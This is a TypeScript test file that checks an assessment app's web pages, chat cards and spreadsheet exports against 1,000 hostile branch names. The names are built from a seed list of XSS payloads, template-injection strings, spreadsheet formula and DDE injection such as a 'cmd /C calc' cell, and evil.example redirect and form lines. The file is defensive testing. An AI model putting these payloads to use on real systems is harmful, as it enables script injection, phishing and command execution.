// biome-ignore-all lint/suspicious/noTemplateCurlyInString: a template is among the hostile words.
import { serve } from '@hono/node-server'
import { expect, onTestFinished, test } from 'vitest'
import { type LinkKind, linkTo } from '../../db/pages/links.ts'
import { newId } from '../../src/app.ts'
import { addMinutes, moment } from '../../src/calendar.ts'
import { card as aCard, lines } from '../../src/card.ts'
import { sheetsOf } from '../../src/spreadsheet/read.ts'
import { writeTable } from '../../src/spreadsheet/write.ts'
import { openZip } from '../../src/spreadsheet/zip.ts'
import { asWritten } from '../../src/text.ts'
import { address, anApp } from '../harness/app.ts'
import { anAssessment } from '../harness/assessment.ts'
import { seeded } from '../harness/branch.ts'
import { sharedBrowser, WAIT_MS } from '../harness/browser/browser.ts'
import { eyes, posts, seen } from '../harness/browser/looked.ts'
import { freePort } from '../harness/host.ts'
import { proved, sized } from './sizes.ts'

const MANY = 1_000

const seeds = [
  '<script>window.ran=1</script>',
  '<img src=x onerror=window.ran=1>',
  '"><svg onload=window.ran=1>',
  "'><iframe srcdoc='<script>parent.ran=1</script>'>",
  '</td></tr></table><script>window.ran=1</script>',
  '</title></style></textarea></script><script>window.ran=1</script>',
  '<a href="javascript:window.ran=1">x</a>',
  '[x](javascript:window.ran=1)',
  '![x](https://evil.example/x.png)',
  '<at id=all></at>',
  '<at user_id="all">所有人</at>',
  '<at email=all></at>',
  '<person id="ou_1"></person>',
  '<number_tag>1</number_tag>',
  '<font color="red">红</font>',
  '**粗** __粗__ ~~删~~ `码`',
  '# 标题',
  '- 项',
  '> 引',
  ':OK: :DONE:',
  '$$x^2$$',
  '&lt;script&gt;window.ran=1&lt;/script&gt;',
  '&#60;script&#62;window.ran=1&#60;/script&#62;',
  '{{constructor.constructor("window.ran=1")()}}',
  '${window.ran=1}',
  '=1+1',
  '=HYPERLINK("http://evil.example","x")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1+1',
  '＝1+1',
  '<zz-canary>x</zz-canary>',
  '<style>*{display:none}</style>',
  '<base href="http://evil.example/">',
  '<meta http-equiv=refresh content="0;url=http://evil.example">',
  '<form action="http://evil.example"><input name=token>',
  '<!--',
  '-->',
  ']]>',
  '\u202e<script>',
  '<ScRiPt>window.ran=1</sCrIpT>',
  '<math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=window.ran=1 src>">',
]

/** A thousand names, each of them another one. */
const payloads = (() => {
  const random = seeded(39)
  const oneOf = (all: readonly string[]) => all[(((random(1)[0] ?? 0) << 8) | (random(1)[0] ?? 0)) % all.length] as string
  const found = new Set(seeds)
  while (found.size < MANY)
    found.add(`${oneOf(['', '支部', '"', "'", '<b>', '*', ' ', '\\'])}${oneOf(seeds)}${oneOf(['', '<i>', '_', '`', oneOf(seeds)])}`)
  return [...found]
})()

const asShown = (text: string) => text.replace(/\s+/g, ' ').trim()

async function pagesOf(names: readonly string[]) {
  const it = await anAssessment()
  await it.client.batch(
    names.map((name, nth) => ({
      sql: "insert into branches (id, unit, committee, name, since) values (?, 'unit', 'committee', ?, '2026-07-01')",
      args: [`x${nth}`, name],
    })),
    'write',
  )
  const now = moment('2026-10-09', '10:00')
  it.at('2026-10-08', '10:00')
  await it.opens()
  const app = anApp(it.store)
  app.to(now)
  const port = await freePort()
  const server = serve({ fetch: app.app.fetch, port, hostname: '127.0.0.1' })
  onTestFinished(() => void server.close())
  const chance = seeded(12)
  const link = async (kind: LinkKind, subject: string, person: string | null) =>
    `http://127.0.0.1:${port}${address.path(
      await linkTo(it.db, { unit: 'unit', kind, subject, person, madeBy: 'm_上级', madeAt: now, expiresAt: addMinutes(now, 60) }, () =>
        newId(chance),
      ),
    )}`
  return { it, link, app }
}

/** A page in the browser without the policy that forbids strange scripts: the escaping alone must hold. */
async function looked(url: string) {
  const browser = await sharedBrowser()
  const context = await browser.newContext({ bypassCSP: true, locale: 'zh-CN' })
  onTestFinished(() => context.close())
  const page = await context.newPage()
  page.setDefaultTimeout(WAIT_MS)
  const asked: string[] = []
  page.on('request', (request) => asked.push(request.url()))
  page.on('dialog', (dialog) => void dialog.dismiss())
  const response = await page.goto(url)
  expect(response?.status()).toBe(200)
  const bad = 'document.querySelectorAll("zz-canary, iframe, img:not([src^=data]), object, embed, base, math").length'
  return {
    page,
    harm: {
      ran: await page.evaluate('window.ran ?? null'),
      elements: await page.evaluate(bad),
      strange: asked.filter((one) => !one.startsWith('http://127.0.0.1')),
    },
    words: asShown(await page.evaluate('document.body.textContent')),
  }
}

const harmless = { ran: null, elements: 0, strange: [] }

// T39: 1,000 names on the pages of a real browser, its own policy switched off
seen('no hostile name runs as a script on a page', async ({ task }) => {
  const { link } = await pagesOf(payloads)
  const pages = [
    await link('scoreboard', 'committee 2026Q3', null),
    `${await link('scoreboard', 'committee 2026Q3', null)}?q=${encodeURIComponent(seeds.slice(0, 6).join(''))}`,
    await link('assessment', 'committee 2026Q3', 'm_上级'),
    await link('branchScore', 'x2 2026Q3', null),
  ]
  let shown = 0
  for (const [nth, url] of pages.entries()) {
    const { harm, words } = await looked(url)
    expect({ url: nth, ...harm }).toEqual({ url: nth, ...harmless })
    shown += payloads.filter((one) => words.includes(asShown(one))).length
  }
  expect(shown).toBeGreaterThan(1.9 * MANY)
  proved(
    task,
    'T39',
    `${MANY.toLocaleString('en')} hostile names in Chromium without a policy: 0 ran, 0 became an element, shown ${shown} times as typed`,
  )
})

const { opened } = eyes()

// T39: 200 (1,000) hostile words on cards, in the playground’s own client
seen('hostile words on a card show as typed, never as markup', async ({ task }) => {
  const some = payloads.slice(0, sized(200, MANY))
  const bare = (text: string) => text.replace(/&(?:#\d+|sim);/g, '')
  expect(some.filter((one) => /[&<>*_[\]()#!+:$\\`~-]/.test(bare(asWritten(one).zh)))).toEqual([])
  const { page, feishu, errors, clock, moveClock } = await opened()
  feishu.chat('oc_branch').hasBot = true
  const lot = 40
  for (let first = 0; first < some.length; first += lot) {
    // A chat takes five messages a second.
    moveClock(addMinutes(clock(), 1))
    await posts(
      feishu,
      'oc_branch',
      'interactive',
      aCard(
        asWritten(some[first] ?? ''),
        some.slice(first, first + lot).map((one) => lines(asWritten(one))),
      ),
    )
  }
  const last = asShown(some.at(-1) ?? '')
  await expect.poll(async () => asShown(await page.evaluate('document.body.textContent')).includes(last)).toBe(true)
  const words = asShown(await page.evaluate('document.body.textContent'))
  // The playground draws its emojis after it has read the entities, the platform before.
  expect(some.filter((one) => !/:[A-Z]+:/.test(one) && !words.includes(asShown(one)))).toEqual([])
  expect(await page.evaluate('window.ran ?? null')).toBeNull()
  expect(await page.evaluate('document.querySelectorAll("zz-canary, iframe, base").length')).toBe(0)
  expect(errors).toEqual([])
  proved(task, 'T39', `${some.length.toLocaleString('en')} hostile words on cards in Chromium: each as typed, 0 @all, 0 links`)
})

// T39: 1,000 hostile names in a workbook
test('no hostile name in a workbook is a formula', async ({ task }) => {
  const bytes = await writeTable({
    name: '名单',
    title: '=1+1',
    columns: [
      { heading: '=2+2', width: 10 },
      { heading: '名称', width: 10 },
    ],
    rows: payloads.map((one) => [one, one]),
  })
  const zip = openZip(bytes)
  let xml = ''
  for (const name of zip.names.filter((one) => one.endsWith('.xml'))) for await (const piece of zip.text(name)) xml += piece
  expect(xml).not.toMatch(/<f[ >]|<hyperlink|ddeLink|externalLink/i)
  for await (const { rows } of sheetsOf(bytes, 2_000)) {
    const read = rows.slice(2).map(({ cells }) => asShown(String(cells[0])))
    expect(read).toEqual(payloads.map(asShown))
  }
  proved(task, 'T39', `${MANY.toLocaleString('en')} hostile names in a workbook: 0 formulas, each read back as written`)
})
